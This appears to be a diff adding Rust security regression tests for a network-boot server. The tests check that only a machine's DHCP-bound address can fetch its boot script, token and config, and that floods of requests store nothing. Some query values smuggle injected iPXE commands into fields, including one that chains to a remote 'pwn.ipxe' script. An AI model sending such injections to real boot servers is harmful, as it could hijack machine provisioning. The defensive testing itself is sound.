@@ -1,0 +1,411 @@
+//! The binding rule on loopback: a machine leases 127.1.0.x through a
+//! relayed DHCP exchange and then talks HTTP *from* that address (any
+//! 127.0.0.0/8 address is ours to bind), while the attacker talks from
+//! 127.0.0.1, which is bound to nothing. Each attack the issue found is run
+//! as written and must fail; the same flow from the machine's own address
+//! must still work.
+
+use std::net::{IpAddr, Ipv4Addr};
+use std::time::Duration;
+
+use dhcproto::v4::{DhcpOption, MessageType};
+use serde_json::Value;
+
+use crate::common::dhcp_client::{message, msg_type, with, Client, Relay};
+use crate::common::TestServer;
+
+const RELAY: Ipv4Addr = Ipv4Addr::new(127, 1, 0, 1);
+const ATTACKER: IpAddr = IpAddr::V4(Ipv4Addr::new(127, 0, 0, 1));
+const VICTIM: [u8; 6] = [0x52, 0x54, 0x00, 0xbb, 0x00, 0x01];
+const OTHER: [u8; 6] = [0x52, 0x54, 0x00, 0xbb, 0x00, 0x02];
+
+fn mac_text(m: [u8; 6]) -> String {
+    m.iter()
+        .map(|b| format!("{b:02x}"))
+        .collect::<Vec<_>>()
+        .join(":")
+}
+
+/// DISCOVER, REQUEST: the address ironboot leased to `m`.
+async fn lease(relay: &Relay, m: [u8; 6], xid: u32) -> Ipv4Addr {
+    let offer = relay
+        .exchange(&message(Client::Ipxe, MessageType::Discover, m, xid, RELAY))
+        .await
+        .expect("OFFER");
+    let ip = offer.yiaddr();
+    let req = with(
+        with(
+            message(Client::Ipxe, MessageType::Request, m, xid + 1, RELAY),
+            DhcpOption::RequestedIpAddress(ip),
+        ),
+        DhcpOption::ServerIdentifier(Ipv4Addr::LOCALHOST),
+    );
+    let ack = relay.exchange(&req).await.expect("ACK");
+    assert_eq!(msg_type(&ack), Some(MessageType::Ack));
+    ip
+}
+
+/// An HTTP client whose requests come from `from`.
+fn client(from: IpAddr) -> reqwest::Client {
+    reqwest::Client::builder()
+        .local_address(from)
+        .timeout(Duration::from_secs(10))
+        .build()
+        .unwrap()
+}
+
+async fn get(c: &reqwest::Client, url: &str) -> (u16, String) {
+    let r = c.get(url).send().await.unwrap();
+    (r.status().as_u16(), r.text().await.unwrap())
+}
+
+async fn post(c: &reqwest::Client, url: &str, body: impl Into<reqwest::Body>) -> u16 {
+    c.post(url)
+        .header("content-type", "application/x-www-form-urlencoded")
+        .body(body)
+        .send()
+        .await
+        .unwrap()
+        .status()
+        .as_u16()
+}
+
+/// The per-boot seed URL in a script (`s=<seed>/`), and its token.
+fn seed(script: &str) -> Option<(String, String)> {
+    let at = script.find("s=http://")? + 2;
+    let url: String = script[at..]
+        .chars()
+        .take_while(|c| !c.is_whitespace())
+        .collect();
+    let token = url.trim_end_matches('/').rsplit('/').next()?.to_string();
+    Some((url, token))
+}
+
+struct Api {
+    base: String,
+    token: String,
+    http: reqwest::Client,
+}
+
+impl Api {
+    fn new(server: &TestServer) -> Self {
+        Self::at(&format!("http://{}", server.bound.http), server.dir.path())
+    }
+
+    fn at(base: &str, dir: &std::path::Path) -> Self {
+        Api {
+            base: base.to_string(),
+            token: std::fs::read_to_string(dir.join("data/admin.token"))
+                .unwrap()
+                .trim()
+                .into(),
+            http: reqwest::Client::new(),
+        }
+    }
+
+    async fn get(&self, path: &str) -> (u16, Value) {
+        let r = self
+            .http
+            .get(format!("{}{path}", self.base))
+            .bearer_auth(&self.token)
+            .send()
+            .await
+            .unwrap();
+        (r.status().as_u16(), r.json().await.unwrap_or(Value::Null))
+    }
+
+    async fn machine(&self, m: [u8; 6]) -> Option<Value> {
+        let (status, body) = self.get(&format!("/api/v1/machines/{}", mac_text(m))).await;
+        (status == 200).then_some(body)
+    }
+
+    /// A live OS image: kernel, initrd, imported as stream `live` gen 1 and
+    /// the default group pointed at it.
+    async fn import(&self) {
+        use sha2::Digest as _;
+        let mut artifacts = Vec::new();
+        for (name, bytes) in [("vmlinuz", vec![1u8; 4096]), ("initrd", vec![2u8; 4096])] {
+            let hex = hex::encode(sha2::Sha256::digest(&bytes));
+            let r = self
+                .http
+                .put(format!("{}/api/v1/artifacts/sha256/{hex}", self.base))
+                .bearer_auth(&self.token)
+                .body(bytes.clone())
+                .send()
+                .await
+                .unwrap();
+            assert!(r.status().is_success(), "{}", r.status());
+            artifacts.push(serde_json::json!({ "name": name, "digest": hex, "size": bytes.len() }));
+        }
+        let manifest = serde_json::json!({
+            "arch": "x86_64", "kernel": artifacts[0], "initrds": [artifacts[1]],
+            "rootfs": null, "cmdline": "console=ttyS0"
+        });
+        let r = self
+            .http
+            .post(format!("{}/api/v1/streams/live/generations", self.base))
+            .bearer_auth(&self.token)
+            .json(&manifest)
+            .send()
+            .await
+            .unwrap();
+        assert!(r.status().is_success(), "{}", r.text().await.unwrap());
+        let r = self
+            .http
+            .put(format!("{}/api/v1/groups/default/generation", self.base))
+            .bearer_auth(&self.token)
+            .json(&serde_json::json!({ "stream": "live", "generation": 1 }))
+            .send()
+            .await
+            .unwrap();
+        assert!(r.status().is_success(), "{}", r.text().await.unwrap());
+    }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn only_the_bound_address_acts_for_a_machine() {
+    let server = TestServer::full_bound("").await;
+    let api = Api::new(&server);
+    api.import().await;
+    let base = format!("http://{}", server.bound.http);
+    let relay = Relay::new(RELAY, server.dhcp()).await;
+    let victim_ip = lease(&relay, VICTIM, 0x7100).await;
+    let victim = client(IpAddr::V4(victim_ip));
+    let attacker = client(ATTACKER);
+    let vmac = mac_text(VICTIM);
+
+    // The victim is known from its DHCP exchange; what the API shows of it
+    // now must not change by anything the attacker does.
+    tokio::time::sleep(Duration::from_millis(200)).await;
+    let known = api.machine(VICTIM).await;
+    // The attacker asks for the victim's script: told it is not bound, no
+    // token, and nothing about the victim changes.
+    for query in [
+        "",
+        "?buildarch=x%0Atouch%20/tmp/P%0A%23",
+        "?serial=x%20;%20chain%20http://198.51.100.66/pwn.ipxe%20;%20%23",
+    ] {
+        let (status, script) = get(&attacker, &format!("{base}/boot/{vmac}.ipxe{query}")).await;
+        assert_eq!(status, 200, "a booting machine always gets a script");
+        assert!(script.contains("is not bound to"), "{script}");
+        assert!(
+            seed(&script).is_none(),
+            "no token for the attacker:\n{script}"
+        );
+    }
+    assert_eq!(
+        api.machine(VICTIM).await,
+        known,
+        "nothing changed by an unbound address"
+    );
+    assert!(server.counter("boot_unbound").await >= 3);
+
+    // The victim, from its own address, boots as before; its hostile
+    // "architecture" is dropped, not stored.
+    let (status, script) = get(
+        &victim,
+        &format!("{base}/boot/{vmac}.ipxe?buildarch=x%0Atouch%20/tmp/P%0A%23&serial=SN%2042"),
+    )
+    .await;
+    assert_eq!(status, 200);
+    let (seed_url, token) = seed(&script).expect("the bound machine gets its token");
+    let m = api
+        .machine(VICTIM)
+        .await
+        .expect("registered by its own request");
+    assert_eq!(m["ip"], victim_ip.to_string());
+    assert_eq!(m["serial"], "SN 42");
+    assert!(
+        m["cpu"].is_null() || m["cpu"] != "x\ntouch /tmp/P\n#",
+        "{m}"
+    );
+
+    // Its config and its token, from the attacker's address: refused.
+    let (status, body) = get(&attacker, &format!("{seed_url}user-data")).await;
+    assert_eq!(status, 403, "{body}");
+    assert!(!body.contains("#cloud-config"));
+    assert_eq!(
+        post(
+            &attacker,
+            &format!("{base}/phone-home/{token}"),
+            "checks=passed"
+        )
+        .await,
+        403,
+        "a forged confirmation with the victim's token"
+    );
+    // From the victim's address: served, and the confirmation counts.
+    let (status, user) = get(&victim, &format!("{seed_url}user-data")).await;
+    assert_eq!(status, 200);
+    assert!(user.starts_with("#cloud-config"), "{user}");
+
+    // Two more unauthenticated script requests for the victim (the
+    // rollout sabotage): its open boot is not counted as failed, and its
+    // address is not rewritten.
+    for _ in 0..2 {
+        get(&attacker, &format!("{base}/boot/{vmac}.ipxe")).await;
+    }
+    let m = api.machine(VICTIM).await.unwrap();
+    assert_eq!(m["recent_boots"].as_array().unwrap().len(), 1, "{m}");
+    assert_eq!(m["recent_boots"][0]["state"], "served", "{m}");
+    assert_eq!(m["ip"], victim_ip.to_string());
+
+    assert_eq!(
+        post(
+            &victim,
+            &format!("{base}/phone-home/{token}"),
+            "checks=passed"
+        )
+        .await,
+        200
+    );
+    let m = api.machine(VICTIM).await.unwrap();
+    assert_eq!(m["current"]["generation"], 1, "{m}");
+
+    // Another leased machine cannot act for the victim either: its address
+    // is bound, but to itself.
+    let other_ip = lease(&relay, OTHER, 0x7200).await;
+    let other = client(IpAddr::V4(other_ip));
+    let (_, script) = get(&other, &format!("{base}/boot/{vmac}.ipxe")).await;
+    assert!(seed(&script).is_none(), "{script}");
+    server.stop().await;
+}
+
+/// Unbounded growth from unauthenticated requests: 2,000 script requests
+/// for random MACs with a 60 kB serial, and 50 phone-homes of 2 MiB to a
+/// bogus token, leave no machine, no event and no database growth beyond
+/// noise.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn floods_from_unbound_addresses_store_nothing() {
+    let server = TestServer::full_bound("").await;
+    let base = format!("http://{}", server.bound.http);
+    let attacker = client(ATTACKER);
+    let db_file = server.dir.path().join("data/ironboot.db");
+    let size = |p: &std::path::Path| {
+        ["", "-wal"]
+            .iter()
+            .map(|s| {
+                std::fs::metadata(format!("{}{s}", p.display()))
+                    .map(|m| m.len())
+                    .unwrap_or(0)
+            })
+            .sum::<u64>()
+    };
+    let before = size(&db_file);
+    let serial = "s".repeat(60_000);
+    for i in 0..2000u32 {
+        let mac = format!(
+            "52:54:01:{:02x}:{:02x}:{:02x}",
+            i >> 16,
+            (i >> 8) & 0xff,
+            i & 0xff
+        );
+        let (status, _) = get(
+            &attacker,
+            &format!("{base}/boot/{mac}.ipxe?serial={serial}"),
+        )
+        .await;
+        assert_eq!(status, 200);
+    }
+    let body = vec![b'a'; 2 * 1024 * 1024];
+    for _ in 0..50 {
+        // 413 before the body is read; the server may close the connection
+        // while the client is still sending, which the client sees as an
+        // error: both are a refusal.
+        let sent = attacker
+            .post(format!("{base}/phone-home/{}", "0".repeat(64)))
+            .body(body.clone())
+            .send()
+            .await;
+        if let Ok(r) = sent {
+            assert!(matches!(r.status().as_u16(), 413 | 403), "{}", r.status());
+        }
+    }
+    assert!(server.counter("boot_unbound").await >= 2000);
+    let dir = server.stop().await;
+    let db = TestServer::db(dir.path()).await;
+    let (machines,): (i64,) = sqlx::query_as("SELECT COUNT(*) FROM machines")
+        .fetch_one(&db)
+        .await
+        .unwrap();
+    let (events,): (i64,) = sqlx::query_as("SELECT COUNT(*) FROM events")
+        .fetch_one(&db)
+        .await
+        .unwrap();
+    assert_eq!((machines, events), (0, 0));
+    let after = size(&dir.path().join("data/ironboot.db"));
+    eprintln!("hostile: database {before} -> {after} bytes after the floods");
+    assert!(after < before + 1024 * 1024, "{before} -> {after}");
+}
+
+/// A script's token survives a kill -9 right after the script was sent:
+/// the boot row was committed first, so the machine's confirmation after
+/// the restart is accepted (address bound by a reservation, which is the
+/// operator's and survives anything).
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_token_the_machine_holds_survives_kill_9() {
+    let dir = tempfile::TempDir::new().unwrap();
+    // A fixed HTTP port across restarts: one the kernel just handed out.
+    let port = std::net::TcpListener::bind("127.0.0.1:0")
+        .unwrap()
+        .local_addr()
+        .unwrap()
+        .port();
+    let text = crate::common::full_config_with(dir.path(), "", crate::common::BINDING_REQUIRED)
+        .replace(
+            "listen = \"127.0.0.1:0\"\n[tftp]",
+            &format!("listen = \"127.0.0.1:{port}\"\n[tftp]"),
+        );
+    let config = dir.path().join("ironboot.toml");
+    std::fs::write(&config, text).unwrap();
+    let start = || {
+        Killed(
+            std::process::Command::new(env!("CARGO_BIN_EXE_ironboot"))
+                .args(["serve", "--config"])
+                .arg(&config)
+                .env_remove("IRONBOOT_E2E")
+                .stdout(std::process::Stdio::null())
+                .stderr(std::process::Stdio::null())
+                .spawn()
+                .unwrap(),
+        )
+    };
+    let base = &format!("http://127.0.0.1:{port}");
+    let wait_up = || async {
+        for _ in 0..100 {
+            if reqwest::get(format!("{base}/healthz")).await.is_ok() {
+                return;
+            }
+            tokio::time::sleep(Duration::from_millis(100)).await;
+        }
+        panic!("server did not come up");
+    };
+    let mut server = start();
+    wait_up().await;
+    Api::at(base, dir.path()).import().await;
+    // The reservation in the test config: 52:54:00:00:00:01 at 127.1.0.50.
+    let machine = client("127.1.0.50".parse().unwrap());
+    let mut confirmed = 0;
+    for round in 0..3 {
+        let (_, script) = get(&machine, &format!("{base}/boot/52:54:00:00:00:01.ipxe")).await;
+        let (_, token) = seed(&script).unwrap_or_else(|| panic!("round {round}: {script}"));
+        drop(server); // SIGKILL, reaped
+        server = start();
+        wait_up().await;
+        let status = post(&machine, &format!("{base}/phone-home/{token}"), "x=1").await;
+        assert_eq!(status, 200, "round {round}: the token survived the kill");
+        confirmed += 1;
+    }
+    assert_eq!(confirmed, 3);
+}
+
+/// A server process killed with SIGKILL (and reaped) when dropped, panic or
+/// not.
+struct Killed(std::process::Child);
+
+impl Drop for Killed {
+    fn drop(&mut self) {
+        let _ = self.0.kill();
+        let _ = self.0.wait();
+    }
+}
